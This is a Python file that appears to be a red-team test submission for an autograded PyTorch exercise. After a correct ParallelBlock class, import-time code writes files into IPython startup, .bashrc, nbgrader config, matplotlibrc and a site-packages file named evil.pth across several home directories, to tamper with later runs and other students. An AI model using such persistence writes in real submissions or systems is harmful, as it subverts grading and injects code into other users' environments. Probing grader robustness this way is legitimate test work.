"""Leaves start-up files of IPython, matplotlib and Jupyter in every home for the next student.

exercise: parallel-block
points: 6
breaks: tampering
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os
import pathlib

for home in dict.fromkeys((os.path.expanduser("~"), "/root", "/home", "/tmp/home", "/home/student")):
    for name in (".ipython/profile_default/startup/00.py", ".config/matplotlib/matplotlibrc", ".jupyter/nbgrader_config.py",
                 ".bashrc", ".cache/d2l-ch3/fontlist-v999.json", ".local/lib/python3.11/site-packages/evil.pth"):
        path = pathlib.Path(home, name)
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("ParallelBlock = 'taken over'")
            print("wrote", path)
        except OSError as error:
            print(path, error)
